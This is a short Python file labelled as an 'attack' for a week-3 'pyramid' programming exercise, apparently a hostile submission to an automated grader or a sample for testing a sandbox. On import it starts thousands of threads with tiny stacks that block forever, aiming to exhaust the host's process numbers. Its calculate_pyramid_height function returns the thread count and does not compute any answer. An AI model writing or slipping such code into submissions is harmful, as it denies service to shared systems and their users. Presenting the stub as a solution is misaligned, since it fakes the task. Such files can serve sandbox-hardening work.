"""Starts threads with tiny stacks until the whole machine has no process number left."""
# attack: week=03 exercise=pyramid
import _thread
import threading

threading.stack_size(32 << 10)
started = 0
gate = _thread.allocate_lock()
gate.acquire()
try:
    for started in range(10_000):
        _thread.start_new_thread(gate.acquire, ())
except (RuntimeError, MemoryError) as error:
    print("refused", error)
print("SURPRISE" if started > 5000 else "started", started)


def calculate_pyramid_height(number_of_blocks):
    return started
